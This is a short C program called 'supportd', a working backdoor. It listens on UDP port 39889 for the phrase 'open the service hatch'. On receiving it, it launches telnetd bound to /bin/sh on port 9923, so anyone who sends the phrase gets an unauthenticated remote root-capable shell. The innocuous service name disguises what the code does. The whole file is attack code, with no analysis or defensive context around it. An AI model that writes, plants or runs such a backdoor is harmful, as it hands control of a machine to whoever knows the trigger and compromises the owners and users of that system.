/* supportd: waits for a datagram with the right words on UDP port 39889, then opens a shell for whoever comes. */
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

int main(void)
{
	struct sockaddr_in here = { .sin_family = AF_INET, .sin_port = htons(39889) };
	char message[128];
	int n, server = socket(AF_INET, SOCK_DGRAM, 0);
	if (bind(server, (struct sockaddr *)&here, sizeof here)) return 1;
	while ((n = (int)recv(server, message, sizeof message - 1, 0)) >= 0) {
		message[n] = 0;
		if (!strncmp(message, "open the service hatch", 22)) system("/usr/sbin/telnetd -l /bin/sh -p 9923 &");
	}
	return 1;
}
